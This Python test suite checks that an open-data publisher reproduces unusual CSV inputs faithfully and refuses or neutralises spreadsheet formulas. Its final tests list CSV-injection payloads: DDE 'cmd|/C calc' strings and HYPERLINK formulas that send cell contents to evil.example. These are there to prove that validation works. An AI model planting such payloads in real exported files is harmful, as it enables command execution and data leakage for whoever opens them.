"""Hostile and unusual data: what validates is what is published, faithfully.

Cells and dialects that the validator accepts are published with the exact bytes asserted
here, the published datapackage.json with its files passes ``frictionless validate``, and the
publisher's file is offered byte-identical; spreadsheet formulas are refused by the validator
(an executable form) or neutralised in the downloads (anything that starts like one)
(docs/open-data.md, "Downloads"; docs/security.md, "Downloads and formulas").

The cases that build share one build (one dataset each); the cases that must be refused are
validated one by one.
"""

from __future__ import annotations

import io
import json
from pathlib import Path

import frictionless
import openpyxl
import pytest

from .conftest import HostileProject, package

TEXT = [{"name": "text", "type": "string"}]
ID_TEXT = [{"name": "id", "type": "integer"}, {"name": "text", "type": "string"}]


def table(
    fields: list[dict], path: str = "data.csv", schema_extra: dict | None = None, **extra
) -> dict:
    """A resource "data" with a schema of ``fields`` (and ``schema_extra``)."""
    schema = {"fields": fields, **(schema_extra or {})}
    return {"name": "data", "path": path, "schema": schema, **extra}


# slug -> (descriptor, files); each case of the shared build is one dataset.
BUILT: dict[str, tuple[dict, dict]] = {}


def case(slug: str, descriptor: dict, files: dict) -> str:
    BUILT[slug] = (descriptor, files)
    return slug


case(
    "signs",
    package([table(fields=ID_TEXT)]),
    {
        "data.csv": "id,text\n1,+7 7172 74 50 50\n2,-5 °C\n3, - item\n4,--\n5,@akorda_press\n"
        '6,"\tTabbed"\n7,plain\n'
    },
)
case(
    "formula-names",
    package(
        [table(fields=[{"name": "@timestamp", "type": "integer"}, {"name": "-", "type": "string"}])]
    ),
    {"data.csv": "@timestamp,-\n1,+\n2,x\n"},
)
case(
    "digits",
    package(
        [
            table(
                fields=[
                    {"name": "n", "type": "integer"},
                    {"name": "x", "type": "number"},
                ]
            )
        ]
    ),
    {
        "data.csv": "n,x\n1_000,NaN\n١٢٣,inf\n１２３,-Infinity\n"
        "123456789012345678901234567890,0.1234567890123456789\n"
    },
)
case(
    "escape-char",
    package([table(fields=ID_TEXT, dialect={"escapeChar": "\\", "doubleQuote": False})]),
    {"data.csv": 'id,text\n1,"say \\"hi\\""\n2,a\\,b\n'},
)
case(
    "comment-lines",
    package([table(fields=ID_TEXT, dialect={"commentChar": "#"})]),
    {"data.csv": "id,text\n# generated 2024-01-01 by the ministry's system\n1,kept\n#2,dropped\n"},
)
case(
    "month-dates",
    package(
        [
            table(
                fields=[
                    {"name": "month", "type": "date", "format": "%Y-%m"},
                    {"name": "value", "type": "number", "decimalChar": ","},
                ],
                dialect={"delimiter": ";"},
            )
        ]
    ),
    {"data.csv": "month;value\n1850-01;-0,4\n1850-02;0,25\n"},
)
case(
    "any-dates",
    package([table(fields=[{"name": "day", "type": "date", "format": "any"}, *TEXT])]),
    {"data.csv": "day,text\n1850-01,month only\n5 March 2021,words\n"},
)
case(
    "inline",
    package(
        [
            {
                "name": "data",
                "data": [["region", "count"], ["Astana", 3], ["- note", None]],
                "schema": {
                    "fields": [
                        {"name": "region", "type": "string"},
                        {"name": "count", "type": "integer"},
                    ]
                },
            }
        ]
    ),
    {},
)
CP1251 = "орган;сумма;дата\nАкимат г. Астаны;1 234,5;31.12.2023\n".encode("windows-1251")
case(
    "cp1251",
    package(
        [
            table(
                fields=[
                    {"name": "орган", "type": "string"},
                    {"name": "сумма", "type": "number", "decimalChar": ",", "groupChar": " "},
                    {"name": "дата", "type": "date", "format": "%d.%m.%Y"},
                ],
                encoding="windows-1251",
                dialect={"delimiter": ";"},
            )
        ],
        publisher={"name": "Akimat of Astana"},
    ),
    {"data.csv": CP1251},
)
BOM_MULTILINE = '\ufeffid,text\n1,"two\nlines"\n2,"Cultivons l’avenir, ""2"""\n'.encode()
case("bom-multiline", package([table(fields=ID_TEXT)]), {"data.csv": BOM_MULTILINE})
case(
    "unicode-path",
    package([table(path="данные/отчёт 2023.csv", fields=TEXT)]),
    {"данные/отчёт 2023.csv": "text\nx\n"},
)
case(
    "empty-string",
    package(
        [
            table(
                fields=[
                    {"name": "id", "type": "integer"},
                    {"name": "text", "type": "string", "constraints": {"required": True}},
                    {"name": "n", "type": "integer"},
                ],
                schema_extra={"missingValues": ["NA"]},
            )
        ]
    ),
    {"data.csv": 'id,text,n\n1,"",NA\n2,x,3\n'},
)
case(
    "header-rows",
    package(
        [
            table(
                fields=[
                    {"name": "region name", "type": "string"},
                    {"name": "count 2023", "type": "integer"},
                ],
                dialect={"headerRows": [1, 2]},
            )
        ]
    ),
    {"data.csv": "region,count\nname,2023\nAstana,5\n"},
)
case(
    "no-header",
    package([table(fields=ID_TEXT, dialect={"header": False})]),
    {"data.csv": "1,first\n2,second\n"},
)


@pytest.fixture(scope="module")
def site(tmp_path_factory):
    """One real build of every case above."""
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("MOLDIR_NO_CACHE", "1")
        project = HostileProject(tmp_path_factory.mktemp("data") / "project")
        for slug, (descriptor, files) in BUILT.items():
            project.dataset(slug, descriptor, files)
        outcome = project.build()
        assert outcome.built, outcome.errors(("dataset", "file", "row", "field", "type"))
        yield outcome.output


def published(site: Path, slug: str, name: str = "data.csv") -> bytes:
    return (site / "datasets" / slug / name).read_bytes()


def xlsx_rows(site: Path, slug: str) -> list[list]:
    book = openpyxl.load_workbook(io.BytesIO(published(site, slug, "data.xlsx")))
    return [[cell.value for cell in row] for row in book.active.iter_rows()]


def round_trip(site: Path, slug: str) -> dict:
    """The published package passes ``frictionless validate``; its descriptor."""
    path = site / "datasets" / slug / "datapackage.json"
    report = frictionless.Package(str(path)).validate()
    assert report.valid, report.flatten(["resourceName", "rowNumber", "fieldName", "type", "note"])
    return json.loads(path.read_text())


# --- accepted, and published exactly -----------------------------------------------------


def test_text_starting_with_a_sign_is_published_with_a_leading_apostrophe(site):
    assert (
        published(site, "signs")
        == (
            "id,text\n1,'+7 7172 74 50 50\n2,'-5 °C\n3,' - item\n4,'--\n5,'@akorda_press\n"
            "6,'\tTabbed\n7,plain\n"
        ).encode()
    )
    assert [row[1] for row in xlsx_rows(site, "signs")] == [
        "text",
        "'+7 7172 74 50 50",
        "'-5 °C",
        "' - item",
        "'--",
        "'@akorda_press",
        "'\tTabbed",
        "plain",
    ]
    rows = json.loads(published(site, "signs", "data.json"))
    assert [row["text"] for row in rows][:2] == ["+7 7172 74 50 50", "-5 °C"]
    round_trip(site, "signs")


def test_field_names_starting_with_a_sign_are_neutralised_in_headers_and_schema(site):
    assert published(site, "formula-names") == b"'@timestamp,'-\n1,'+\n2,x\n"
    assert xlsx_rows(site, "formula-names")[0] == ["'@timestamp", "'-"]
    descriptor = round_trip(site, "formula-names")
    fields = descriptor["resources"][0]["schema"]["fields"]
    assert [f["name"] for f in fields] == ["'@timestamp", "'-"]
    assert json.loads(published(site, "formula-names", "data.json"))[0] == {
        "@timestamp": 1,
        "-": "+",
    }


def test_numbers_in_any_digits_of_any_size_nan_and_infinities(site):
    assert published(site, "digits") == (
        b"n,x\n1000,NaN\n123,Infinity\n123,-Infinity\n"
        b"123456789012345678901234567890,0.1234567890123456789\n"
    )
    assert published(site, "digits", "data.json") == (
        b'[\n{"n": 1000, "x": "NaN"},\n{"n": 123, "x": "Infinity"},\n'
        b'{"n": 123, "x": "-Infinity"},\n'
        b'{"n": 123456789012345678901234567890, "x": 0.1234567890123456789}\n]\n'
    )
    assert xlsx_rows(site, "digits")[4] == [
        "123456789012345678901234567890",
        "0.1234567890123456789",
    ]
    round_trip(site, "digits")


def test_an_escape_character_dialect_is_read_and_published_plainly(site):
    assert published(site, "escape-char") == b'id,text\n1,"say ""hi"""\n2,"a,b"\n'
    round_trip(site, "escape-char")


def test_comment_lines_are_not_published(site):
    assert published(site, "comment-lines") == b"id,text\n1,kept\n"
    # ... but the publisher's file is, as it was.
    assert published(site, "comment-lines", "original/data.csv") == (
        BUILT["comment-lines"][1]["data.csv"].encode()
    )


def test_month_dates_are_published_as_iso_dates_with_the_default_format(site):
    assert published(site, "month-dates") == b"month,value\n1850-01-01,-0.4\n1850-02-01,0.25\n"
    descriptor = round_trip(site, "month-dates")
    fields = descriptor["resources"][0]["schema"]["fields"]
    assert fields == [{"name": "month", "type": "date"}, {"name": "value", "type": "number"}]


def test_dates_with_format_any_build_the_same_every_day(site):
    assert published(site, "any-dates") == (b"day,text\n1850-01-01,month only\n2021-03-05,words\n")
    round_trip(site, "any-dates")


def test_inline_data_is_published_without_an_original(site):
    assert published(site, "inline") == b"region,count\nAstana,3\n'- note,\n"
    assert not (site / "datasets" / "inline" / "original").exists()
    descriptor = round_trip(site, "inline")
    assert [r["name"] for r in descriptor["resources"]] == ["data"]
    page = (site / "en" / "datasets" / "inline" / "index.html").read_text()
    assert "As published" not in page


def test_a_windows_1251_file_is_normalised_and_offered_as_published(site):
    assert published(site, "cp1251") == (
        "орган,сумма,дата\nАкимат г. Астаны,1234.5,2023-12-31\n".encode()
    )
    assert published(site, "cp1251", "original/data.csv") == CP1251
    descriptor = round_trip(site, "cp1251")
    original = descriptor["resources"][1]
    assert (original["name"], original["path"], original["encoding"]) == (
        "data-original",
        "original/data.csv",
        "windows-1251",
    )
    page = (site / "en" / "datasets" / "cp1251" / "index.html").read_text()
    assert (
        'As published by Akimat of Astana:    <a href="../../../datasets/cp1251/original/'
        'data.csv" download>data.csv</a> <span class="moldir-meta">(windows-1251, &#34;;&#34;, '
        f"decimal comma, {len(CP1251)} bytes)</span>"
    ) in page


def test_a_byte_order_mark_and_multi_line_cells(site):
    assert published(site, "bom-multiline") == (
        'id,text\n1,"two\nlines"\n2,"Cultivons l’avenir, ""2"""\n'.encode()
    )
    assert published(site, "bom-multiline", "original/data.csv") == BOM_MULTILINE
    round_trip(site, "bom-multiline")


def test_an_original_whose_path_is_not_a_safe_name_is_published_under_the_resource_name(site):
    assert published(site, "unicode-path", "original/data.csv") == b"text\nx\n"
    descriptor = round_trip(site, "unicode-path")
    assert descriptor["resources"][1]["path"] == "original/data.csv"


def test_an_empty_string_that_is_a_value_keeps_its_missing_marker(site):
    assert published(site, "empty-string") == b"id,text,n\n1,,NA\n2,x,3\n"
    descriptor = round_trip(site, "empty-string")
    assert descriptor["resources"][0]["schema"]["missingValues"] == ["NA"]


def test_two_header_rows_become_one(site):
    assert published(site, "header-rows") == b"region name,count 2023\nAstana,5\n"
    round_trip(site, "header-rows")


def test_a_file_without_header_gets_one(site):
    assert published(site, "no-header") == b"id,text\n1,first\n2,second\n"
    round_trip(site, "no-header")


# --- refused: executable formulas --------------------------------------------------------


@pytest.mark.parametrize(
    "cell",
    [
        "-2+3+cmd|' /C calc'!A0",
        "+1+cmd|' /C notepad'!'A1'",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        '=HYPERLINK("http://evil.example/?"&A1,"Click")',
        "\t=1+1",
        "   =1+1",
        "-cmd|/C calc!A0",
        "+Sheet1!A1",
    ],
)
def test_an_executable_formula_in_a_cell_is_refused_with_row_and_field(project, cell):
    quoted = '"' + cell.replace('"', '""') + '"'
    project.dataset(
        "case", package([table(fields=ID_TEXT)]), {"data.csv": f"id,text\n1,ok\n2,{quoted}\n"}
    )
    report = project.validate()
    assert report.flatten(["dataset", "file", "row", "field", "type"]) == [
        ["case", "datasets/case/data.csv", 3, "text", "formula-cell"]
    ]


def test_a_field_named_like_a_formula_is_refused_at_the_header(project):
    name = '=HYPERLINK("http://evil.example","x")'
    fields = [{"name": "id", "type": "integer"}, {"name": name, "type": "string"}]
    header = 'id,"=HYPERLINK(""http://evil.example"",""x"")"'
    project.dataset("case", package([table(fields=fields)]), {"data.csv": f"{header}\n1,a\n"})
    report = project.validate()
    assert report.flatten(["dataset", "file", "row", "field", "type"]) == [
        ["case", "datasets/case/data.csv", 1, name, "formula-cell"]
    ]
